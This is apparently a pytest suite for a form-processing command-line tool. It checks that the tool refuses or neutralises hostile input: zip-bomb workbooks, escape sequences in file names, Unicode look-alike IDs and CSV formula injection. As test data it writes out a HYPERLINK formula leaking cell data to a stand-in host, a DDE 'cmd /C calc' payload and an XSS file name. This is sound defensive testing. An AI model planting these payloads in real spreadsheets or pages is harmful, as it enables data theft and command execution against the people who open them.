"""Forms and names from a hostile user (issue 19, round 2): limits, files that are not what they
claim, control characters, formula cells in CSVs people open in Excel, Unicode look-alikes.

Most tests run the command line a user runs and stop before any kernel: a bad form is refused
(exit 1 or 2), or a good one meets an output folder the tool did not make (exit 2) after the
"read ..." line.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from osa_utils import PROJECT_ROOT
from osa_utils.data import DataValidationError

CLI = [sys.executable, "-m", "osa_utils.cli"]
EXAMPLE = PROJECT_ROOT / "data" / "examples" / "assessment_quantum.csv"
APP_EXAMPLE = PROJECT_ROOT / "data" / "examples" / "app_check_example.csv"
HEADER = ["dimension_id", "challenge", "importance", "instrument"]


def _limit_memory():  # a form must never need gigabytes; on the old code the XFD1048576 cell did
    resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30))


def _cli(*args, timeout=120, **kwargs):
    return subprocess.run(
        CLI + [str(a) for a in args],
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=_limit_memory,
        **kwargs,
    )


def _foreign(tmp_path: Path) -> Path:
    """An output folder the tool did not make: a good form reaches it (after 'read ...') and stops, exit 2."""
    d = tmp_path / "theirs"
    d.mkdir(exist_ok=True)
    (d / "keep.txt").write_text("mine", encoding="utf-8")
    return d


def _assess(form, tmp_path, *extra, out=None):
    return _cli("assess", form, "--id", "hostile_x", "--label", "Hostile", "--out", out or _foreign(tmp_path), *extra)


def _example_rows() -> list[list[str]]:
    return list(csv.reader(io.StringIO(EXAMPLE.read_text(encoding="utf-8"), newline="")))


def _no_traceback(proc):
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]


# --------------------------------------------------------------------------- limits
def test_a_cell_at_xfd1048576_is_refused_at_once(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in _example_rows():
        ws.append(r)
    ws["XFD1048576"] = "x"
    path = tmp_path / "huge.xlsx"
    wb.save(path)
    assert path.stat().st_size < 20_000
    proc = _assess(path, tmp_path)
    _no_traceback(proc)
    assert proc.returncode == 1
    assert "huge.xlsx[Sheet]:1048576: sheet longer than a form may be" in proc.stderr
    assert "at most 10000 rows below the header" in proc.stderr


def test_a_value_far_to_the_right_is_refused(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in _example_rows():
        ws.append(r)
    ws["XFD2"] = "x"
    wb.save(tmp_path / "wide.xlsx")
    proc = _assess(tmp_path / "wide.xlsx", tmp_path)
    assert proc.returncode == 1
    assert "wide.xlsx[Sheet]:2:XFD: cell beyond the columns a form may have" in proc.stderr


def test_a_workbook_that_unpacks_too_large_is_refused_before_parsing(tmp_path, monkeypatch):
    """A 413 KB .xlsx held a 400 MB string; the unpacked size is checked from the ZIP directory
    before openpyxl parses anything (here with the limit lowered, to keep the test small)."""
    from openpyxl import Workbook

    from osa_utils import workbook
    from osa_utils.assess import load_assessment

    wb = Workbook()
    ws = wb.active
    for r in _example_rows():
        ws.append(r)
    ws["B3"] = "BOMB"
    wb.save(tmp_path / "small.xlsx")
    with (
        zipfile.ZipFile(tmp_path / "small.xlsx") as zin,
        zipfile.ZipFile(tmp_path / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":  # openpyxl itself cuts strings at 32767 characters
                data = data.replace(b"<t>BOMB</t>", b"<t>" + b"a" * 3_000_000 + b"</t>")
            zout.writestr(item.filename, data)
    assert (tmp_path / "bomb.xlsx").stat().st_size < 100_000
    monkeypatch.setattr(workbook, "MAX_UNPACKED_BYTES", 2 * 2**20)

    def no_parse(*a, **k):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr("openpyxl.load_workbook", no_parse)
    with pytest.raises(DataValidationError) as info:
        load_assessment(tmp_path / "bomb.xlsx")
    assert str(info.value.problems[0]).startswith(
        "bomb.xlsx: workbook too large once unpacked (found 3 MB unpacked (xl/worksheets/sheet1.xml: 3 MB)"
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_cell_too_long_is_located(tmp_path, suffix):
    rows = _example_rows()
    rows[2][1] = "é" * 2001  # 4002 bytes
    path = tmp_path / f"long{suffix}"
    if suffix == ".csv":
        path.write_text("".join(",".join(f'"{c}"' for c in r) + "\n" for r in rows), encoding="utf-8")
        where = "long.csv:3:challenge"
    else:
        from openpyxl import Workbook

        wb = Workbook()
        for r in rows:
            wb.active.append(r)
        wb.save(path)
        where = "long.xlsx[Sheet]:3:B (challenge)"
    proc = _assess(path, tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert f"{where}: cell too long (found 4002 bytes, expected at most 4000 bytes (UTF-8) in a cell)" in proc.stderr


@pytest.mark.parametrize("end", ["\n", "\r"])  # CR-only line ends too: the file is parsed with its own line ends
def test_a_csv_with_too_many_rows_stops_at_the_limit(tmp_path, end):
    path = tmp_path / "rows.csv"
    path.write_bytes(f"dimension_id,challenge,importance{end}".encode() + f",,{end}".encode() * 3_000_000)
    proc = _assess(path, tmp_path)
    _no_traceback(proc)
    assert proc.returncode == 1
    assert (
        "rows.csv:10002: file longer than a form may be (found a record at row 10002, expected at most "
        "10000 rows below the header)" in proc.stderr
    )


def test_a_csv_larger_than_a_form_may_be_is_not_read(tmp_path):
    path = tmp_path / "big.csv"
    path.write_bytes(EXAMPLE.read_bytes() + b"#" * (10 * 2**20))
    proc = _assess(path, tmp_path)
    assert proc.returncode == 1
    assert "big.csv: file larger than a form may be (found 10.5 MB, expected at most 10 MB" in proc.stderr


def test_more_challenges_than_the_chart_can_show(tmp_path):
    path = tmp_path / "many.csv"
    path.write_text(
        "dimension_id,challenge,importance\n" + "".join(f"supply_chain,challenge {i},2\n" for i in range(301)),
        encoding="utf-8",
    )
    proc = _assess(path, tmp_path)
    assert proc.returncode == 1
    assert (
        "many.csv:302: more challenges than an assessment form may have (found 301 challenges, expected at "
        "most 300" in proc.stderr
    )


def test_a_long_label_and_a_long_id_are_refused_before_anything(tmp_path):
    proc = _cli("assess", EXAMPLE, "--id", "q", "--label", "L" * 100_000, "--out", tmp_path / "o")
    assert proc.returncode == 2
    assert "(it has 100000 characters); allowed values: a name on one line, 1 to 80 characters" in proc.stderr
    assert len(proc.stderr) < 1000
    proc = _cli("assess", EXAMPLE, "--id", "q" * 300, "--label", "Q", "--out", tmp_path / "o")
    assert proc.returncode == 2
    assert "(300 characters)' is not allowed; allowed values: 1 to 40 lower-case letters" in proc.stderr
    assert not (tmp_path / "o").exists()


# --------------------------------------------------------------------------- control characters
ESC_NAME = "\x1b[2J\x1b[32mall good\x1b[0m"


def test_a_form_name_with_escape_sequences_is_refused_and_printed_escaped(tmp_path):
    path = tmp_path / f"{ESC_NAME}.csv"
    shutil.copy(EXAMPLE, path)
    for proc in (_assess(path, tmp_path), _cli("app-check", path, "--app", "X", "--out", _foreign(tmp_path))):
        assert proc.returncode == 2
        assert "\x1b" not in proc.stderr + proc.stdout
        assert "\\x1b[2J" in proc.stderr and "holds control characters (U+001B)" in proc.stderr


def test_the_read_line_escapes_the_file_name():
    from osa_utils.cli import toolcmds

    buf = io.StringIO()
    frame = pd.DataFrame()
    frame.attrs.update(read=f"{ESC_NAME}.csv: CSV", skipped=0)
    old, sys.stderr = sys.stderr, buf
    try:
        toolcmds.say_read(frame)
    finally:
        sys.stderr = old
    assert "\x1b" not in buf.getvalue() and "\\x1b[2J" in buf.getvalue()


@pytest.mark.parametrize("option", ["--app", "--label"])
def test_names_with_control_characters_are_refused(tmp_path, option):
    if option == "--app":
        proc = _cli("app-check", APP_EXAMPLE, "--app", "Chat\x1b]0;pwned\x07", "--out", tmp_path / "o")
    else:
        proc = _cli("assess", EXAMPLE, "--id", "q", "--label", "Q\x1b[31mred", "--out", tmp_path / "o")
    assert proc.returncode == 2
    assert "\x1b" not in proc.stderr and "control characters" in proc.stderr and "U+001B" in proc.stderr
    assert not (tmp_path / "o").exists()


# --------------------------------------------------------------------------- files that are not forms
@pytest.mark.parametrize("command", ["assess", "app-check"])
def test_a_folder_given_as_the_form(tmp_path, command):
    folder = tmp_path / "form.csv"
    folder.mkdir()
    args = [folder, "--id", "q", "--label", "Q"] if command == "assess" else [folder, "--app", "X"]
    proc = _cli(command, *args, "--out", tmp_path / "o")
    assert proc.returncode == 2
    assert f"error: {folder} is not a file but a folder" in proc.stderr


def test_an_unreadable_form_is_a_message_in_every_command(tmp_path):
    """Run as another user (root reads everything): PermissionError becomes 'file cannot be read'."""
    setpriv = shutil.which("setpriv")
    if os.geteuid() != 0 or not setpriv:
        pytest.skip("needs root and setpriv to run the command as a user who may not read the form")
    shared = Path(tempfile.mkdtemp(prefix="osa-unreadable-"))
    try:
        shared.chmod(0o777)
        form = shared / "secret.csv"
        shutil.copy(EXAMPLE, form)
        form.chmod(0o000)
        levels = shared / "levels.csv"
        shutil.copy(PROJECT_ROOT / "data" / "examples" / "matrix_user_levels_example.csv", levels)
        levels.chmod(0o000)
        user = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
        env = {**os.environ, "HOME": str(shared), "PYTHONDONTWRITEBYTECODE": "1"}
        runs = {
            "assess": [form, "--id", "q", "--label", "Q", "--out", shared / "a"],
            "app-check": [form, "--app", "X", "--out", shared / "b"],
            "build": ["--only", "00_executive_summary", "-p", "matrix_user_levels", levels, "--out", shared / "c"],
        }
        for command, args in runs.items():
            proc = subprocess.run(
                user + CLI + [command] + [str(a) for a in args],
                capture_output=True,
                text=True,
                timeout=120,
                env=env,
                cwd=shared,
            )
            _no_traceback(proc)
            assert proc.returncode == 1, (command, proc.stderr)
            name = "levels.csv" if command == "build" else "secret.csv"
            assert (
                f"{name}: file cannot be read (found Permission denied, expected a file you may read)" in proc.stderr
            ), (command, proc.stderr)
    finally:
        for p in shared.iterdir():
            p.chmod(0o600) if p.is_file() else None
        shutil.rmtree(shared, ignore_errors=True)


def _utf16(path: Path) -> Path:
    # Excel's "Unicode text": UTF-16 LE with a byte-order mark, tab-separated
    path.write_bytes(("\ufeff" + EXAMPLE.read_text(encoding="utf-8").replace(",", "\t")).encode("utf-16-le"))
    return path


def _xls(path: Path) -> Path:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8)
    return path


def _ods(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return path


@pytest.mark.parametrize(
    "make,name,message",
    [
        (
            _utf16,
            "unicode.csv",
            "unicode.csv: UTF-16 text (Excel's 'Unicode text'), not UTF-8 (found a UTF-16 "
            "byte-order mark, expected UTF-8 text (in Excel: save as 'CSV UTF-8'))",
        ),
        (_xls, "old.xls", "old.xls: file is an Excel 97-2003 workbook (.xls)"),
        (_xls, "renamed.csv", "renamed.csv: file is an Excel 97-2003 workbook (.xls)"),
        (_ods, "calc.ods", "calc.ods: file is an OpenDocument spreadsheet (.ods)"),
        (_ods, "calc.xlsx", "calc.xlsx: file is an OpenDocument spreadsheet (.ods)"),
    ],
)
def test_other_spreadsheet_files_are_named_as_such(tmp_path, make, name, message):
    proc = _assess(make(tmp_path / name), tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert message in proc.stderr
    assert "save it as .xlsx or as 'CSV UTF-8'" in proc.stderr or "UTF-16" in message


def test_cr_only_line_ends_are_called_so(tmp_path):
    path = tmp_path / "mac.csv"
    path.write_bytes(EXAMPLE.read_bytes().replace(b"\n", b"\r"))
    proc = _assess(path, tmp_path)
    assert "read mac.csv: CSV, comma-separated, UTF-8, old Mac (CR only) line ends" in proc.stderr, proc.stderr
    assert "CRLF" not in proc.stderr
    assert proc.returncode == 2  # then the foreign output folder stops it


def _write_form(path: Path, rows, row_end: str) -> Path:
    """*rows* as a CSV whose records end with *row_end*, every cell quoted (the csv module would
    write a cell holding a lone CR or LF bare when the line terminator does not hold it)."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator=row_end, quoting=csv.QUOTE_ALL).writerows(rows)
    return path


@pytest.mark.parametrize(
    "row_end,in_cell,said",
    [
        ("\r\n", "\n", "Windows (CRLF) line ends"),  # Excel on Windows: LF inside a cell, CRLF between rows
        ("\r\n", "\r\n", "Windows (CRLF) line ends"),
        ("\n", "\r", "LF line ends"),
        ("\n", "\r\n", "LF line ends"),
        ("\r", "\n", "old Mac (CR only) line ends"),
    ],
)
def test_line_ends_are_those_between_records_not_those_inside_quoted_cells(tmp_path, row_end, in_cell, said):
    rows = _example_rows()
    rows[1][1] = f"first line{in_cell}second line"
    path = _write_form(tmp_path / "multi.csv", rows, row_end)
    proc = _assess(path, tmp_path)
    _no_traceback(proc)
    assert f"read multi.csv: CSV, comma-separated, UTF-8, {said}" in proc.stderr, proc.stderr
    assert "mixed" not in proc.stderr
    assert proc.returncode == 2  # then the foreign output folder stops it


def test_mixed_line_ends_between_records_are_called_so(tmp_path):
    lines = EXAMPLE.read_bytes().split(b"\n")
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"\r\n".join(lines[:3]) + b"\n" + b"\n".join(lines[3:]))
    proc = _assess(path, tmp_path)
    assert "read mixed.csv: CSV, comma-separated, UTF-8, mixed line ends" in proc.stderr, proc.stderr


@pytest.mark.parametrize("row_end", ["\n", "\r\n", "\r"])
def test_a_quote_problem_is_located_whatever_the_line_ends(tmp_path, row_end):
    head = ["dimension_id,challenge,importance", "supply_chain,x,2"]
    stray = _write_form(tmp_path / "stray.csv", [], row_end)
    stray.write_bytes(row_end.join(head + ['supply_chain,"y"z,2', "supply_chain,w,2", ""]).encode())
    proc = _assess(stray, tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert (
        "stray.csv:3:challenge: stray character after a closing quote (found text after a quoted cell on "
        "line 3," in proc.stderr
    ), proc.stderr
    stray.write_bytes(row_end.join(head + ['supply_chain,"y,2', "supply_chain,w,2", ""]).encode())
    proc = _assess(stray, tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert (
        "stray.csv:3: quote opened and never closed (found a cell starting with a quote on line 3 that runs "
        "to the end of the file (line 4)" in proc.stderr
    ), proc.stderr


def test_a_nul_byte_is_refused_with_its_place(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(EXAMPLE.read_bytes().replace(b"Espionage", b"Espio\x00nage"))
    proc = _assess(path, tmp_path)
    assert proc.returncode == 1
    assert "nul.csv:5:challenge: NUL byte in the file (found \\x00," in proc.stderr


def test_formulas_without_values_and_error_cells_are_named(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Form"
    for r in _example_rows():
        ws.append(r)
    ws["C2"] = "=1+2"  # openpyxl saves the formula without a computed value
    ws["C3"] = "#N/A"  # an error cell
    wb.save(tmp_path / "f.xlsx")
    proc = _assess(tmp_path / "f.xlsx", tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "f.xlsx[Form]:2:C: formula without a saved value" in proc.stderr
    assert "f.xlsx[Form]:3:C: error value in the cell (found #N/A," in proc.stderr
    assert "empty required cell" not in proc.stderr


def test_a_formula_with_a_saved_value_reads_as_its_value(tmp_path):
    """A workbook saved by a spreadsheet holds the formula's value too (written here as the XML has it)."""
    from openpyxl import Workbook

    from osa_utils.assess import load_assessment

    wb = Workbook()
    for r in _example_rows():
        wb.active.append(r)
    wb.active["C2"] = "=1+2"
    wb.save(tmp_path / "v.xlsx")
    src = tmp_path / "v.xlsx"
    dst = tmp_path / "saved.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<f>1+2</f><v></v>", b"<f>1+2</f><v>3</v>").replace(
                    b"<f>1+2</f><v />", b"<f>1+2</f><v>3</v>"
                )
                assert b"<v>3</v>" in data
            zout.writestr(item, data)
    assert int(load_assessment(dst)["importance"].iloc[0]) == 3


def test_a_hidden_first_sheet_is_not_read(tmp_path):
    from openpyxl import Workbook

    from osa_utils.assess import load_assessment

    wb = Workbook()
    old = wb.active
    old.title = "old draft"
    old.append(HEADER)
    old.append(["supply_chain", "A draft nobody sees", "1", ""])
    old.sheet_state = "hidden"
    form = wb.create_sheet("Form")
    for r in _example_rows():
        form.append(r)
    wb.save(tmp_path / "h.xlsx")
    frame = load_assessment(tmp_path / "h.xlsx")
    assert "A draft nobody sees" not in set(frame["challenge"])
    assert frame.attrs["read"] == (
        "h.xlsx: Excel workbook, sheet 'Form'; hidden sheet(s) 'old draft' before it not read (--sheet NAME reads one)"
    )
    hidden = load_assessment(tmp_path / "h.xlsx", sheet="old draft")
    assert list(hidden["challenge"]) == ["A draft nobody sees"]
    assert "the sheet is hidden in the workbook" in hidden.attrs["read"]


def test_a_look_alike_id_names_its_foreign_letter(tmp_path):
    path = tmp_path / "homoglyph.csv"
    path.write_text(
        EXAMPLE.read_text(encoding="utf-8").replace("national_security,Espionage", "nat\u0456onal_security,Espionage"),
        encoding="utf-8",
    )
    proc = _assess(path, tmp_path)
    assert proc.returncode == 1
    line = next(l for l in proc.stderr.splitlines() if l.startswith("homoglyph.csv:5:dimension_id"))
    assert (
        "'nat\\u0456onal_security', which holds non-ASCII U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I" in line
    )


# --------------------------------------------------------------------------- formula cells in outputs
@pytest.fixture
def chapter(tmp_path):
    from osa_utils.notebook import Chapter

    return Chapter(PROJECT_ROOT / "data", tmp_path / "out", formats="png", dpi=50)


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def test_formula_cells_of_an_assessment_are_neutralised_in_the_csv_only(chapter, tmp_path):
    from osa_utils.assess import load_assessment
    from osa_utils.tables import NEUTRALISED

    rows = _example_rows()
    rows[1][1] = HYPERLINK
    rows[1][3] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[5][1] = "-2+3"  # values_sustainability: its only challenge
    rows[3][3] = "\t=1+1"
    path = tmp_path / "f.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    df = load_assessment(path)
    chapter.assessment_table(df, "evil", "+Evil")
    chapter.typical_instruments(df, "evil", "+Evil")
    out = tmp_path / "out"
    table = list(csv.reader(io.StringIO((out / "tab-assessment-evil-risks.csv").read_text(encoding="utf-8"))))
    cells = [c for r in table for c in r]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    joined = "\n".join(cells)
    assert "'" + HYPERLINK in joined and "'-2+3" in joined
    assert "'@SUM(1+1)" in joined and "'\t=1+1" in joined
    assert all(r[-1].endswith(NEUTRALISED) for r in table[1:])
    html = (out / "tab-assessment-evil-risks.html").read_text(encoding="utf-8")
    assert (
        "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in html
        or "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in html
    )
    instruments = (out / "tab-assessment-evil-instruments.csv").read_text(encoding="utf-8")
    assert "\n@" not in instruments and ",@" not in instruments


CR_LINK = '\r=HYPERLINK("http://evil.example","cr")'


@pytest.mark.parametrize("row_end", ["\n", "\r\n", "\r"])
def test_a_cell_starting_with_a_carriage_return_keeps_it_and_is_neutralised(chapter, tmp_path, row_end):
    """The CR inside a quoted cell is the cell's (not turned into LF), so the CSV gets its ' and the
    .html keeps the value as written."""
    from osa_utils.assess import load_assessment

    rows = _example_rows()
    rows[1][1] = CR_LINK
    df = load_assessment(_write_form(tmp_path / "crinj.csv", rows, row_end))
    assert CR_LINK in set(df["challenge"])
    chapter.assessment_table(df, "crinj", "CR")
    out = tmp_path / "out"
    with (out / "tab-assessment-crinj-risks.csv").open(encoding="utf-8", newline="") as fh:
        cells = [c for r in csv.reader(fh) for c in r]
    assert any(c.startswith("'" + CR_LINK) for c in cells), cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for c in cells)
    with (out / "tab-assessment-crinj-risks.html").open(encoding="utf-8", newline="") as fh:
        html = fh.read()
    assert "\r=HYPERLINK(" in html and "\n=HYPERLINK(" not in html


def test_a_clean_table_says_nothing_of_neutralising(chapter):
    from osa_utils.assess import load_assessment
    from osa_utils.tables import NEUTRALISED

    chapter.assessment_table(load_assessment(EXAMPLE), "plain", "Plain")
    text = (chapter.params.figures_dir / "tab-assessment-plain-risks.csv").read_text(encoding="utf-8")
    assert NEUTRALISED not in text


def test_formula_evidence_of_an_app_check_is_neutralised(tmp_path):
    from osa_utils.appcheck import load_app_check
    from osa_utils.sections.appcheck import AppCheck

    rows = list(csv.reader(io.StringIO(APP_EXAMPLE.read_text(encoding="utf-8"), newline="")))
    rows[1][3] = DDE
    path = tmp_path / "app.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    ac = AppCheck(PROJECT_ROOT / "data", tmp_path / "out", formats="png", dpi=50)
    ac.findings_table(load_app_check(path), "@Chat")
    table = list(
        csv.reader(io.StringIO((tmp_path / "out" / "tab-appcheck-chat-findings.csv").read_text(encoding="utf-8")))
    )
    assert "'" + DDE in [c for r in table for c in r]
    assert not any(c.startswith(("=", "+", "-", "@")) for r in table for c in r)


def test_the_reports_own_tables_are_written_as_they_are():
    from osa_utils.tables import Table

    t = Table(["A", "B"], [["-1", "=x"], [["+a", "b"], None]])
    assert t.to_csv() == "A,B\n-1,=x\n+a • b,\n"
    assert t.to_csv(neutralise_formulas=True) == "A,B\n'-1,'=x\n'+a • b,\n"


def test_a_cell_holding_a_carriage_return_is_quoted_in_the_csv():
    """The csv module quotes only the characters of its line terminator (LF): a bare CR in a cell would
    end the row for a spreadsheet. Rows without one are written as before."""
    from osa_utils.tables import Table

    t = Table(["A", "B"], [["\rx", "plain"], ["a\rb", "-1"], ["c", "d"]])
    text = t.to_csv(neutralise_formulas=True)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["A", "B"],
        ["'\rx", "plain"],
        ["a\rb", "'-1"],
        ["c", "d"],
    ]
    assert text.startswith("A,B\n") and text.endswith("\nc,d\n")


# --------------------------------------------------------------------------- panels and regions
def _panel_form(tmp_path: Path, name: str, rows) -> Path:
    path = tmp_path / name
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([HEADER + ["assessor"]] + rows)
    return path


def test_panel_text_is_compared_after_nfc_and_without_zero_width_characters(tmp_path):
    from osa_utils.assess import load_forms

    nfc, nfd = "Caf\u00e9 supply", "Cafe\u0301 supply"
    path = _panel_form(
        tmp_path,
        "panel.csv",
        [
            ["supply_chain", nfc, "2", "", "Ann"],
            ["supply_chain", nfd, "4", "", "Bo"],
            ["supply_chain", "Rare\u200b earths", "3", "", "Ann\u200b"],
            ["supply_chain", "Rare earths", "3", "", "Bo"],
        ],
    )
    frame, summary = load_forms(path)
    assert summary.assessors == ["Ann", "Bo"]
    assert sorted(summary.challenges["challenge"]) == ["Café supply", "Rare earths"]
    assert set(summary.challenges["n"]) == {2}
    notes = " ".join(summary.notes)
    assert "assessor names 'Ann' and 'Ann\\u200b' read as one" in notes
    assert "challenges 'Caf\\xe9 supply' and 'Cafe\\u0301 supply' read as one ('Café supply')" in notes
    assert "\x1f" not in notes  # the challenge as shown, not the internal matching key


def test_an_empty_assessor_cell_is_refused_with_its_place(tmp_path):
    path = _panel_form(
        tmp_path,
        "panel.csv",
        [
            ["supply_chain", "A", "2", "", "Ann"],
            ["supply_chain", "A", "3", "", ""],
            ["supply_chain", "B", "3", "", "\u200b "],
        ],
    )
    proc = _assess(path, tmp_path)
    _no_traceback(proc)
    assert proc.returncode == 1
    assert (
        "panel.csv:3:assessor: empty assessor cell in a form with an assessor column (found an empty cell"
        in proc.stderr
    )
    assert "panel.csv:4:assessor: empty assessor cell" in proc.stderr


def test_region_names_are_trimmed_before_counting():
    from osa_utils import model

    a = pd.DataFrame({"paper_id": ["p1", "p1", "p2", "p3"], "region": ["Europe", "Europe ", " Europe", "Chi\u200bna"]})
    c = model.fractional_counts(a).set_index("region")
    assert list(c.index) == ["Europe", "China"]
    assert c.loc["Europe", "papers"] == pytest.approx(2.0)


def test_a_file_name_holding_markup_shows_as_text_in_the_notebooks_markdown(tmp_path, monkeypatch):
    """The 'Read ...' line of Figures 3.1/3.2 drawn from a user's authorships file is Markdown in the
    notebook; rendered by mistune (nbconvert's Markdown renderer) the file name stays text."""
    import mistune

    from osa_utils.notebook import Chapter
    from osa_utils.sections import core

    name = "<img src=x onerror=alert(1)>[a](javascript:x) *b*.csv"
    path = tmp_path / name
    path.write_text("paper_id,author,region\np1,a,Europe\np1,b,Europe \np2,c,China\n", encoding="utf-8")
    shown: list[str] = []
    monkeypatch.setattr(core, "show_text", shown.append)
    ch = Chapter(PROJECT_ROOT / "data", tmp_path / "out", formats="png", dpi=50)
    ch.contributor_shares("3.1", path)
    html = mistune.html(f"> **{shown[0]}**")
    assert "<img" not in html and "<a " not in html and "<em>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;[a](javascript:x) *b*.csv" in html


def test_a_template_name_with_escape_sequences_is_printed_escaped(tmp_path):
    proc = _cli("assess", "--template", tmp_path / f"{ESC_NAME}.txt")
    assert proc.returncode == 2
    assert "\x1b" not in proc.stderr and "\\x1b[2J" in proc.stderr
    proc = _cli("app-check", "--template", tmp_path / f"{ESC_NAME}.csv")
    assert proc.returncode == 0
    assert "\x1b" not in proc.stdout and "\\x1b[2J" in proc.stdout


def test_a_formula_whose_saved_result_is_empty_text_is_an_empty_cell(tmp_path):
    """Excel saves ``=IF(...,"",...)`` giving "" as ``t="str"`` with an empty value: not a missing value."""
    from openpyxl import Workbook

    from osa_utils.assess import load_assessment

    wb = Workbook()
    for r in _example_rows():
        wb.active.append(r)
    wb.active["D3"] = '=IF(1,"","x")'
    wb.save(tmp_path / "e.xlsx")
    with zipfile.ZipFile(tmp_path / "e.xlsx") as zin, zipfile.ZipFile(tmp_path / "excel.xlsx", "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                new = data.replace(b'<c r="D3">', b'<c r="D3" t="str">')
                assert new != data
                data = new
            zout.writestr(item, data)
    frame = load_assessment(tmp_path / "excel.xlsx")
    assert frame["instrument"].isna().iloc[1]


def test_a_look_alike_id_option_names_its_foreign_letter(tmp_path):
    proc = _cli("assess", EXAMPLE, "--id", "qu\u0430ntum", "--label", "Q", "--out", tmp_path / "o")
    assert proc.returncode == 2
    assert "--id 'qu\\u0430ntum', which holds non-ASCII U+0430 CYRILLIC SMALL LETTER A is not allowed" in proc.stderr


@pytest.mark.slow
def test_a_template_filled_in_a_spreadsheet_and_its_csv_read_as_a_spreadsheet_reads_it(tmp_path):
    """As a user works: `assess --template form.xlsx`, fill it (here with openpyxl, as a spreadsheet
    saves it: the example row deleted, rows typed in, one text cell starting with '='), run `assess`
    on it, then open the risk table's CSV as a spreadsheet reads CSV (csv module, newline='')."""
    import openpyxl

    form, out = tmp_path / "form.xlsx", tmp_path / "out"
    proc = _cli("assess", "--template", form)
    assert proc.returncode == 0, proc.stderr
    wb = openpyxl.load_workbook(form)
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["dimension_id", "challenge", "importance"]
    assert str(ws.cell(2, 5).value).startswith("EXAMPLE")
    ws.delete_rows(2)  # the example row, as the template's note asks
    typed = {
        "supply_chain": ("Single supplier of wafers", 3),
        "national_security": ('=HYPERLINK("http://example.org/?leak="&A1,"x")', 4),
    }
    for row in ws.iter_rows(min_row=2):
        dim = row[0].value
        if dim in typed:
            row[1].value, row[2].value = typed[dim]
            row[1].data_type = "s"  # text typed into the cell, not a formula (Excel: a leading ')
    wb.save(form)
    proc = _cli(
        "assess",
        form,
        "--id",
        "filled",
        "--label",
        "Filled in a spreadsheet",
        "--out",
        out,
        "--formats",
        "png",
        "--dpi",
        "50",
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "form.xlsx" in proc.stdout + proc.stderr
    with open(out / "tab-assessment-filled-risks.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len({len(r) for r in rows}) == 1  # one width: no cell broke a row
    cells = {r[1]: r[2] for r in rows[1:]}
    assert cells["Single supplier of wafers"] == "3"
    formula = '=HYPERLINK("http://example.org/?leak="&A1,"x")'
    assert cells["'" + formula] == "4"  # neutralised for the spreadsheet that opens it
    import html

    page = html.unescape((out / "tab-assessment-filled-risks.html").read_text(encoding="utf-8"))
    assert formula in page and "'" + formula not in page  # the raw value where no spreadsheet reads it
